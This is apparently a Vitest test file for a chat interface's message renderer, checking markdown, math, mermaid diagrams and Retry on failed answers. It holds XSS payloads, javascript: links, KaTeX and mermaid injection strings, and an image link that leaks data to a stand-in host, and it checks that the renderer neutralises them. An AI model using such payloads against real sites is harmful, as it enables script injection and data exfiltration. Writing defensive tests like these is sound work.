/** Tests of message rendering: GFM, code copy, inert HTML, images as links, a failed answer's Retry; math, diagrams, and what an answer cannot run. */
import { render } from "@testing-library/react";
import { afterEach, beforeAll, describe, expect, it } from "vitest";

import type { Message } from "../../types";
import { loadMath } from "../../hooks/useMath";
import { Markdown } from "./Markdown";
import { MessageView } from "./MessageView";

const XSS = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>';

function answer(content: string): Message {
  return {
    id: "m1", conversation_id: "c1", parent_id: "u1", role: "assistant", content, status: "complete",
    error: null, error_code: null, model: "x", attempt: 1, prompt_tokens: 1, completion_tokens: 1,
    cost_usd: null, first_token_at: null, finished_at: null, tokens_per_second: null,
    finish_reason: "stop", client_id: null, pinned: false, included_ids: null, created_at: "", updated_at: "",
  };
}

describe("message rendering", () => {
  it("renders GFM tables, lists and highlighted code with a copy button", () => {
    const { container, getByTestId } = render(
      <MessageView message={answer("| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n```python\nprint('hi')\n```")} />,
    );
    expect(container.querySelectorAll("table td")).toHaveLength(2);
    expect(container.querySelectorAll("li")).toHaveLength(2);
    expect(container.querySelector("pre code.hljs")).not.toBeNull();
    expect(getByTestId("copy-code")).toBeTruthy();
  });

  it("shows raw HTML from the model as text and never as elements", () => {
    const { container } = render(<MessageView message={answer(`Look: ${XSS}`)} />);
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("script")).toBeNull();
    expect(container.textContent).toContain("onerror");
    expect((window as unknown as { __xss?: number }).__xss).toBeUndefined();
  });

  it("shows a model's image as a link, so nothing loads by itself", () => {
    const { container } = render(<MessageView message={answer("![secret](https://evil.example/?q=leak)")} />);
    expect(container.querySelector("img")).toBeNull();
    const link = container.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil.example/?q=leak");
    expect(link?.getAttribute("rel")).toContain("noopener");
  });

  it("keeps a user's HTML as plain text", () => {
    const user = { ...answer(XSS), role: "user" as const };
    const { container } = render(<MessageView message={user} />);
    expect(container.querySelector("img")).toBeNull();
    expect(container.textContent).toBe(`${XSS}Copy`);
  });

  it("shows a failed answer's readable error and a Retry", () => {
    const failed = { ...answer("partial"), status: "failed" as const, error: "The model server failed with HTTP 500: boom" };
    const { getByTestId } = render(<MessageView message={failed} onRetry={() => undefined} />);
    expect(getByTestId("message-error").textContent).toContain("HTTP 500: boom");
    expect(getByTestId("retry-button")).toBeTruthy();
  });
});

// jsdom lays nothing out: mermaid measures its labels with getBBox, so text gets a width by its length.
beforeAll(() => {
  const svg = SVGElement.prototype as unknown as Record<string, unknown>;
  svg.getBBox = function (this: SVGElement) {
    return { x: 0, y: 0, width: (this.textContent ?? "").length * 8, height: 16 };
  };
  svg.getComputedTextLength = function (this: SVGElement) {
    return (this.textContent ?? "").length * 8;
  };
});
afterEach(() => {
  delete (window as unknown as { __pwned?: number }).__pwned;
});

const pwned = () => (window as unknown as { __pwned?: number }).__pwned;

/** The SVG text a drawn diagram's image shows. */
function svgOf(figure: Element): string {
  const src = figure.querySelector("img")?.getAttribute("src") ?? "";
  expect(src.startsWith("data:image/svg+xml;charset=utf-8,")).toBe(true);
  return decodeURIComponent(src.slice(src.indexOf(",") + 1));
}

describe("math", () => {
  // KaTeX loads with the first math (hooks/useMath, tested there); once it has, math is set at once.
  beforeAll(async () => {
    expect(await loadMath()).not.toBeNull();
  });

  it("sets $…$ inline and $$…$$ as a display with KaTeX, with MathML for screen readers", () => {
    const { container } = render(<Markdown text={"Euler: $e^{i\\pi} + 1 = 0$.\n\n$$\n\\int_0^1 x^2\\,dx = \\frac{1}{3}\n$$"} />);
    expect(container.querySelectorAll(".katex")).toHaveLength(2);
    expect(container.querySelectorAll(".katex-display")).toHaveLength(1);
    expect(container.querySelector("p .katex:not(.katex-display .katex)")).not.toBeNull();
    expect(container.querySelectorAll("math")).toHaveLength(2);
    expect(container.querySelector(".katex-display annotation")?.textContent).toContain("\\frac{1}{3}");
  });

  it("leaves prices as prices, and still sets math written beside them", () => {
    const { container } = render(<Markdown text={"It costs $5 and $10, or from $5 to $20 and $x^2$ in all."} />);
    expect(container.querySelectorAll(".katex")).toHaveLength(1);
    expect(container.querySelector("p")?.textContent).toContain("It costs $5 and $10, or from $5 to $20 and ");
    expect(container.querySelector(".katex annotation")?.textContent).toBe("x^2");
  });

  it("reads LaTeX's \\(…\\) and \\[…\\] as math too, outside code", () => {
    const text = [
      "Inline \\( x^2 \\) and \\[a+b\\] in a sentence; a price of $5 stays.",
      "Consider:",
      "\\[",
      "\\int_0^1 x\\,dx",
      "\\]",
      "",
      "\\[ \\sqrt{2} \\]",
      "",
      "Code keeps them: `\\(c\\)` and a literal \\\\(d\\\\).",
      "",
      "```",
      "\\[e\\]",
      "```",
    ].join("\n");
    const { container } = render(<Markdown text={text} />);
    const annotations = Array.from(container.querySelectorAll(".katex annotation"), (element) => element.textContent);
    expect(annotations).toEqual(["x^2", "a+b", "\\int_0^1 x\\,dx", "\\sqrt{2}"]);
    expect(container.querySelectorAll(".katex-display")).toHaveLength(2);
    expect(container.querySelector("p code")?.textContent).toBe("\\(c\\)");
    expect(container.textContent).toContain("a literal \\(d\\).");
    expect(container.querySelector("pre code")?.textContent).toBe("\\[e\\]\n");
    expect(container.textContent).toContain("a price of $5 stays.");
  });

  it("keeps math in code as code", () => {
    const { container } = render(<Markdown text={"`$x$` and\n\n```\n$$y$$\n```"} />);
    expect(container.querySelector(".katex")).toBeNull();
    expect(container.textContent).toContain("$x$");
  });

  it("turns \\href, \\url and \\htmlClass into red source text, never links or attributes", () => {
    const text = "$\\href{javascript:window.__pwned=1}{x}$ $\\url{javascript:window.__pwned=2}$ $\\htmlClass{evil}{y}$ $\\htmlData{onclick=1}{z}$";
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelector("a")).toBeNull();
    expect(container.querySelector(".evil, [data-onclick], [onclick]")).toBeNull();
    expect(container.querySelectorAll(".katex")).toHaveLength(4);
    expect(container.textContent).toContain("\\href");
    expect(pwned()).toBeUndefined();
  });
});

describe("what an answer cannot do", () => {
  it("runs no <script> and follows no javascript: link", () => {
    const text = "<script>window.__pwned=1</script>\n\n[click](javascript:window.__pwned=2) [data](data:text/html,<script>x</script>) <img src=x onerror=\"window.__pwned=3\">";
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelector("script, img, [onerror]")).toBeNull();
    for (const link of container.querySelectorAll("a")) {
      expect(link.getAttribute("href") ?? "").not.toMatch(/^\s*(javascript|data):/i);
    }
    expect(container.textContent).toContain("<script>");
    expect(pwned()).toBeUndefined();
  });
});

describe("mermaid diagrams", () => {
  const DIAGRAM = "```mermaid\nflowchart TD\n  A[Start] --> B[End]\n```";

  it("shows a streaming answer's diagram as code, drawing nothing yet", async () => {
    const { container, queryByTestId } = render(<Markdown text={DIAGRAM} live />);
    await new Promise((settle) => setTimeout(settle, 50));
    expect(queryByTestId("mermaid-diagram")).toBeNull();
    expect(queryByTestId("mermaid-pending")).toBeNull();
    expect(container.querySelector("pre code.language-mermaid")?.textContent).toContain("A[Start] --> B[End]");
  });

  it("draws a finished answer's diagram as an SVG image, its code kept below", async () => {
    const { findByTestId } = render(<Markdown text={DIAGRAM} />);
    const figure = await findByTestId("mermaid-diagram", {}, { timeout: 10_000 });
    const svg = new DOMParser().parseFromString(svgOf(figure), "image/svg+xml");
    expect(svg.documentElement.tagName).toBe("svg");
    expect(svg.documentElement.textContent).toContain("Start");
    expect(figure.querySelector("img")?.getAttribute("alt")).toContain("Diagram");
    // As wide as the diagram is drawn, not stretched across the answer.
    const width = /max-width:\s*([\d.]+)px/.exec(svg.documentElement.getAttribute("style") ?? "")?.[1];
    expect(figure.querySelector("img")?.getAttribute("width")).toBe(String(Math.ceil(Number(width))));
    expect(figure.querySelector("details pre code")?.textContent).toContain("flowchart TD");
  }, 15_000);

  it("shows an invalid diagram's code with a short error, throwing nothing", async () => {
    const { findByTestId } = render(<Markdown text={"```mermaid\nflowchart TD\n  A -->\n```"} />);
    const failed = await findByTestId("mermaid-error", {}, { timeout: 10_000 });
    expect(failed.querySelector("pre code")?.textContent).toContain("A -->");
    const note = failed.querySelector("[role=note]")?.textContent ?? "";
    expect(note).toMatch(/^This diagram could not be drawn: /);
    expect(note.length).toBeLessThan(220);
  }, 15_000);

  it("binds no click callback and keeps no script, handler or javascript: link from the diagram", async () => {
    const code = [
      '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%',
      "flowchart TD",
      '  A["<img src=x onerror=window.__pwned=1>"] --> B["<script>window.__pwned=2</script>"]',
      "  click A call window.__pwned()",
      '  click B "javascript:window.__pwned=3"',
      '  C --> D',
      '  click C href "javascript:window.__pwned=4"',
    ].join("\n");
    const { findByTestId } = render(<Markdown text={"```mermaid\n" + code + "\n```"} />);
    const figure = await findByTestId("mermaid-diagram", {}, { timeout: 10_000 });
    const svg = new DOMParser().parseFromString(svgOf(figure), "image/svg+xml");
    expect(svg.querySelector("script, img, foreignObject, [onerror], [onclick]")).toBeNull();
    for (const element of svg.querySelectorAll("*")) {
      for (const attribute of element.attributes) expect(attribute.value).not.toMatch(/javascript:/i);
    }
    // The drawing is an image, never in the page; nothing of it is clickable there.
    expect(figure.querySelector("svg, a, [onclick]")).toBeNull();
    expect(document.querySelector("[id^=mermaid-diagram-], [id^=dmermaid-diagram-]")).toBeNull();
    expect(pwned()).toBeUndefined();
  }, 15_000);
});
